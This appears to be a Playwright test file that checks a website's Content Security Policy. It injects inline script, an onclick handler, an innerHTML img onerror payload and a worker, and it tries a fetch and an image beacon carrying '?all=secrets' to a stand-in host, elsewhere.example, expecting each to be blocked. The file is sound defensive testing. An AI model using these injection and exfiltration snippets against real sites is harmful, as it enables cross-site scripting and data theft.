import { test as base } from '@playwright/test';
import { addressOf } from './served-sites.ts';
import { ESSAY, expect, readThrough, test } from './site.ts';

test('figures, copying, the search and the filter work within the policy', async ({ page, refused }) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(ESSAY);
  await readThrough(page);
  const slider = page.getByRole('slider').first();
  await slider.focus();
  await page.keyboard.press('ArrowRight');
  await page.getByRole('navigation', { name: 'Site' }).getByRole('link', { name: 'Search' }).click();
  await page.getByRole('dialog', { name: 'Search' }).getByRole('searchbox').fill('mentors');
  await expect(page.locator('.search-results mark').first()).toBeVisible();
  await page.keyboard.press('Escape');
  await page.locator('[data-copy], [data-copy-from]').first().click();
  await page.goto('faq/');
  await page.getByRole('searchbox').first().fill('pay');
  await expect(page.getByRole('status').first()).not.toBeEmpty();
  expect(refused).toEqual([]);
});

test.describe('what an attacker would put into a page', () => {
  // Refusals are reported to the console, as they should be, so that these tests do not look at it.
  const hostile = base.extend({ baseURL: ({}, use) => use(addressOf('example')) });

  hostile('does not run, as a script, as a handler, or as text made HTML', async ({ page }) => {
    await page.goto(ESSAY);
    const result = await page.evaluate(async () => {
      const ran: string[] = [];
      Object.assign(window, { ran });
      const script = document.createElement('script');
      const button = document.createElement('button');
      const thrown: string[] = [];
      const attempts: Record<string, () => void> = {
        script: () => {
          script.textContent = 'ran.push("script")';
          document.body.append(script);
        },
        handler: () => button.setAttribute('onclick', 'ran.push("handler")'),
        html: () => {
          document.body.innerHTML += '<img src="x" onerror="ran.push(1)">';
        },
        worker: () => void new Worker('/pagefind/pagefind.js'),
      };
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          attempt();
        } catch {
          thrown.push(name);
        }
      }
      button.click();
      // What was refused is reported in a task of its own; whatever would run has run before the one after that.
      await new Promise((resolve) => {
        addEventListener('message', resolve, { once: true });
        postMessage('');
      });
      return { ran, thrown };
    });
    expect(result.ran).toEqual([]);
    expect(result.thrown).toEqual(expect.arrayContaining(['script', 'html', 'worker']));
  });

  hostile('cannot send anything to another host', async ({ page }) => {
    await page.goto(ESSAY);
    const sent = await page.evaluate(() =>
      fetch('https://elsewhere.example/').then(
        () => 'sent',
        (error: Error) => error.name,
      ),
    );
    expect(sent).toBe('TypeError');
    const refused = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
            resolve(effectiveDirective),
          );
          new Image().src = 'https://elsewhere.example/?all=secrets';
        }),
    );
    expect(refused).toBe('img-src');
  });
});
